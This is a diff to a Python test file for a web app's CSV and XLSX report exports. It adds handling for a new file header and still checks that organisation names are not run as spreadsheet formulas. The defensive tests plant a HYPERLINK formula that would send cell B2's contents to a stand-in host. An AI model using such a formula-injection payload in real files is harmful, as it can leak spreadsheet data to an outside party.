@@ -11,6 +11,7 @@ from openpyxl import load_workbook
 
 from waymark.accounts.factories import make_persona, verified_login
 from waymark.core.factories import OrganisationFactory
+from waymark.core.file_headers import split_file_header
 from waymark.core.models import Community, Theme
 from waymark.core.roles import Role
 from waymark.voice.charts import line_chart, nice_ceiling
@@ -114,7 +115,8 @@ def test_report_pdf_renders(staff_client, feedback):
 def test_csv_export_writes_hidden_counts_as_empty_cells(staff_client, feedback):
     response = staff_client.get(reverse("voice:report_export"), {"format": "csv"})
 
-    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    lines, rows = split_file_header(list(csv.reader(io.StringIO(response.content.decode()))))
+    assert lines[-1] == "Disclosure-controlled"
     assert rows[0] == ["Section", "Slice", "Category", "Period", "Count", "Note"]
     theme_rows = {row[2]: row for row in rows if row[0] == "By theme"}
     assert theme_rows["Access to services"][4] == "40"
@@ -128,7 +130,8 @@ def test_xlsx_export_opens_with_its_notes(staff_client, feedback):
 
     workbook = load_workbook(io.BytesIO(response.content))
     assert workbook.sheetnames == ["Figures", "About"]
-    assert workbook["Figures"]["A1"].value == "Section"
+    assert workbook["Figures"]["A1"].value == "Community intelligence report"
+    assert split_file_header(list(workbook["Figures"].iter_rows(values_only=True)))[1][0][0] == "Section"
 
 
 PLANTED_FORMULA = '=HYPERLINK("http://example.invalid/?"&B2,"Open the full report")'
@@ -143,7 +146,7 @@ def responder_with_a_planted_formula():
 def test_csv_export_never_runs_an_organisation_name_as_a_formula(staff_client, responder_with_a_planted_formula):
     response = staff_client.get(reverse("voice:report_export"), {"format": "csv"})
 
-    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    _lines, rows = split_file_header(list(csv.reader(io.StringIO(response.content.decode()))))
     slices = [row[1] for row in rows if row[0] == "Response timeliness"]
     assert slices and set(slices) == {"'" + PLANTED_FORMULA}
 
@@ -152,7 +155,7 @@ def test_xlsx_export_never_runs_an_organisation_name_as_a_formula(staff_client, 
     response = staff_client.get(reverse("voice:report_export"), {"format": "xlsx"})
 
     sheet = load_workbook(io.BytesIO(response.content))["Figures"]
-    cells = [row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == "Response timeliness"]
+    cells = [row[1] for row in sheet.iter_rows() if row[0].value == "Response timeliness"]
     assert cells and all(cell.data_type == "s" and cell.value == "'" + PLANTED_FORMULA for cell in cells)
 
 
